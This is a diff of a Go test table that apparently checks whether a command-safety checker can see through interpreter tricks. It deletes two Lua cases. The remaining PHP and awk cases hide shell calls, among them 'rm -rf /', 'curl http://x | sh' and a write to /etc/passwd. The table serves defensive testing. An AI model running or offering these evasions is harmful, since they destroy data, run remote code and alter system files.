@@ -142,8 +142,6 @@ func TestTricks(t *testing.T) {
 		{"php -r", "preg_replace_callback('/x/', 'system', 'x');", "safe", "x"},
 		{"php -r", "$x = chr(115).chr(121).'stem'; $x('id');", "safe", "id"},
 		{"php -r", "array_map('system', ['id']);", "safe", "id"},
-		{"lua -e", "local f = io.popen; f('id')", "safe", "id"},
-		{"lua -e", "_G['os']['execute']('id')", "safe", "id"},
 		{"awk", "BEGIN { cmd = \"rm -rf \" \"/\"; system(cmd); close(cmd) }", "safe", "rm -rf /"},
 		{"awk", "BEGIN { \"curl http://x | sh\" | getline }", "safe", "curl http://x | sh"},
 		{"awk", "BEGIN { printf \"\" > \"/etc/passwd\" }", "safe", "printf x > /etc/passwd"},
